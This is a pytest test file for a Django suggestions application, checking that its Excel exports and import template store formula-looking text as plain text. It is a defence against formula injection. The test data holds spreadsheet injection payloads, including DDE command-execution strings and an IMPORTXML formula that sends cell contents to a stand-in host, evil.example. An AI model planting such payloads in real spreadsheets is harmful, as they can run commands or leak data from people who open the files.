"""Every workbook the application writes keeps text that looks like a formula (=, +, -, @ at the start) as
text: the summary and the statistics workbook, whatever field the text comes from (title, remarks, deputy, unit,
category, delegation, the reply's document number), and the import template. Each is read back with openpyxl,
which sees a formula as a cell of type "f"."""

import io

import openpyxl
import pytest
from django.urls import reverse

from suggestions.models import Category, Delegation, Deputy, HandlingUnit

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/","点击")',
    "remarks": "+cmd|' /C calc'!A0",
    "deputy": "@SUM(1+1)*cmd",
    "unit": "-2+3+cmd|' /C notepad'!A0",
    "category": "=1+1",
    "delegation": "+代表团",
    "document_number": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
}


@pytest.fixture
def hostile(journey, office, session):
    """A suggestion whose every name is a formula, assigned, replied and accepted."""
    Delegation.objects.filter(pk=journey.s.delegation_id).update(name=FORMULAS["delegation"])
    Deputy.objects.filter(pk=journey.s.lead_deputy_id).update(name=FORMULAS["deputy"])
    Category.objects.filter(pk=journey.s.category_id).update(name=FORMULAS["category"])
    HandlingUnit.objects.filter(pk=journey.units["transport"].pk).update(name=FORMULAS["unit"])
    journey.s.title, journey.s.remarks = FORMULAS["title"], FORMULAS["remarks"]
    journey.s.save(update_fields=["title", "remarks"])
    journey.assign().sign().draft(document_number=FORMULAS["document_number"]).sign_off().submit().accept()
    return journey.s


def cells_of(content):
    book = openpyxl.load_workbook(io.BytesIO(content))  # formulas as written, not their values
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("name", ["export_summary", "export_statistics"])
def test_formula_looking_names_stay_text_in_every_export(client, office, hostile, session, name):
    client.force_login(office)
    response = client.get(reverse(f"suggestions:{name}") + f"?session={session.pk}")
    assert response.status_code == 200
    cells = cells_of(b"".join(response.streaming_content))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    looks_like_formula = {c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"}
    found = {key for key, text in FORMULAS.items() if any(text in v for v in looks_like_formula)}
    # the summary lists each suggestion with its names; the statistics workbook counts by category and unit
    expected = set(FORMULAS) if name == "export_summary" else {"category", "unit"}
    assert expected <= found, f"missing from the workbook: {expected - found}"


def test_the_import_template_holds_no_formula(client, office):
    client.force_login(office)
    cells = cells_of(client.get(reverse("suggestions:import_template")).content)
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
